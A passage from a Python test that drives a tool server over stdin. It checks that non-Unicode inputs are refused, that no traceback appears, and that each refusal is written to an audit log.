            proc.stdin.write((json.dumps(message) + "\n").encode())
            proc.stdin.flush()
            if message.get("id", 0) >= 2:  # one at a time: the next is warm
                [reply] = read_lines(proc.stdout, 1)
                message["reply"] = json.loads(reply)
            elif "id" in message:
                read_lines(proc.stdout, 1)
    finally:
        _, err = proc.communicate(timeout=30)
    results = [m["reply"]["result"] for m in messages if "reply" in m]
    assert [r.get("isError", False) for r in results] == [False, True, False, True, True], err
    for refused in (results[1], results[3], results[4]):
        assert "not Unicode" in refused["content"][0]["text"]
    assert b"Traceback" not in err
    records = audit_records(isolated_home / "state" / "audit.jsonl")
    assert not [r for r in records if r["outcome"] == "pending" and not r.get("completed")]
    refused_records = [r for r in records if r["outcome"] == "invalid-call"]
    assert len(refused_records) == 4  # batch, serve x3 (exec's usage errors start nothing)
